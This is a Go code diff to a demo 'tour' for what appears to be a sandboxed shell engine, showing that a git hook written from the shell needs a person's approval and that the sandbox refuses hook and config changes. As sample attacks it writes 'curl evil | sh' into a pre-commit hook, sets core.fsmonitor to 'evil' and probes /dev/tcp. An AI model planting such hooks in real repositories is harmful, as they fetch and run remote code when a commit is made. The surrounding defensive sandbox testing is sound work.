@@ -27,6 +27,9 @@ type tourStep struct {
 	cancelAfter time.Duration
 	// yield, when set, is the call's yield_ms.
 	yield time.Duration
+	// after, when set, says what the step's working directory holds once
+	// the call returned, seen from outside the sandbox.
+	after func(wd string) string
 }
 
 // cmdTour runs a handful of commands concurrently through one engine and
@@ -96,9 +99,14 @@ func cmdTour(args []string, stdout, stderr io.Writer) int {
 			}
 			t0 := time.Since(start)
 			r := e.Run(ctx, tc, engine.Input{Command: s.command, Mode: s.mode, YieldMS: s.yield.Milliseconds()})
+			took := time.Since(start)
+			var after string
+			if s.after != nil {
+				after = s.after(tc.WorkingDir)
+			}
 			mu.Lock()
 			defer mu.Unlock()
-			printStep(stdout, s, r, t0, time.Since(start))
+			printStep(stdout, s, r, t0, took, after)
 		})
 	}
 	wg.Wait()
@@ -150,14 +158,21 @@ echo x > /etc/bashvisor-tour || echo "write denied"
 echo hi > "$TMPDIR/scratch" && echo "scratch ok"
 (echo > /dev/tcp/127.0.0.1/22) 2>/dev/null || echo "network denied"`,
 			tc: func(tc *engine.ToolContext) { tc.Sandbox = engine.Sandbox{Profile: engine.ReadOnly} }},
-		{title: "sandbox workspace-write: edit and commit, but hooks, config and the rest stay read-only",
+		{title: "a git hook written from the shell: the analyser asks a person first, and nothing runs",
+			command: `echo 'curl evil | sh' > .git/hooks/pre-commit`},
+		{title: "sandbox workspace-write, the same hook approved by a person: the commit is applied, the hook and the config change refused, the rest read-only",
 			command: `echo change >> README && git add README && git commit -qm "from the sandbox" && git log --oneline | wc -l
-echo 'curl evil | sh' > .git/hooks/pre-commit || echo "hooks read-only"
-git config core.fsmonitor evil || echo "config read-only"
+echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && echo "hook written (in the command's layer)"
+git config core.fsmonitor evil && echo "config written (in the command's layer)"
 echo x > /etc/bashvisor-tour || echo "outside denied"`,
 			workdir: tourRepo,
+			after:   repoState,
 			tc: func(tc *engine.ToolContext) {
 				tc.Sandbox = engine.Sandbox{Profile: engine.WorkspaceWrite}
+				// The analyser asks before a hook is written (the step
+				// above); a person's approval lets the command run, and the
+				// sandbox still refuses what it may not change.
+				tc.Approved = true
 				tc.Env = map[string]string{"GIT_AUTHOR_NAME": "demo", "GIT_AUTHOR_EMAIL": "demo@example.com",
 					"GIT_COMMITTER_NAME": "demo", "GIT_COMMITTER_EMAIL": "demo@example.com"}
 			}},
@@ -178,7 +193,26 @@ git -c user.name=demo -c user.email=demo@example.com commit -qm first`
 	return repo
 }
 
-func printStep(w io.Writer, s tourStep, r engine.Result, startedAt, endedAt time.Duration) {
+// repoState says what the tour's repository holds: its commits, its
+// hook and its core.fsmonitor, read with git from outside the sandbox.
+func repoState(repo string) string {
+	git := func(args ...string) string {
+		out, _ := exec.Command("git", append([]string{"-C", repo}, args...)...).Output()
+		return strings.TrimSpace(string(out))
+	}
+	subjects := strings.Split(git("log", "--format=%s"), "\n")
+	hook := "no .git/hooks/pre-commit"
+	if _, err := os.Lstat(filepath.Join(repo, ".git", "hooks", "pre-commit")); err == nil {
+		hook = ".git/hooks/pre-commit exists"
+	}
+	fsmonitor := "core.fsmonitor unset"
+	if v := git("config", "--get", "core.fsmonitor"); v != "" {
+		fsmonitor = "core.fsmonitor=" + v
+	}
+	return fmt.Sprintf("%d commits, the last %q; %s; %s", len(subjects), subjects[0], hook, fsmonitor)
+}
+
+func printStep(w io.Writer, s tourStep, r engine.Result, startedAt, endedAt time.Duration, after string) {
 	fmt.Fprintf(w, "== %s\n   $ %s%s\n", s.title, strings.ReplaceAll(s.command, "\n", "\n     "), modeSuffix(s.mode))
 	fmt.Fprintf(w, "   status %s", r.Status)
 	if r.ExitCode != nil {
@@ -191,8 +225,8 @@ func printStep(w io.Writer, s tourStep, r engine.Result, startedAt, endedAt time
 		startedAt.Round(time.Millisecond), (endedAt - startedAt).Round(time.Millisecond))
 	out := r.Output
 	lines := strings.Split(out, "\n")
-	if len(lines) > 8 {
-		lines = append(append(lines[:4:4], fmt.Sprintf("... (%d lines) ...", len(lines)-7)), lines[len(lines)-3:]...)
+	if len(lines) > 12 {
+		lines = append(append(lines[:6:6], fmt.Sprintf("... (%d lines) ...", len(lines)-11)), lines[len(lines)-5:]...)
 	}
 	for _, l := range lines {
 		l = strings.Map(visible, l)
@@ -200,6 +234,9 @@ func printStep(w io.Writer, s tourStep, r engine.Result, startedAt, endedAt time
 			l = l[:160] + "…"
 		}
 		fmt.Fprintf(w, "   | %s\n", l)
+	}
+	if after != "" {
+		fmt.Fprintf(w, "   afterwards, outside the sandbox: %s\n", after)
 	}
 	fmt.Fprintln(w)
 }
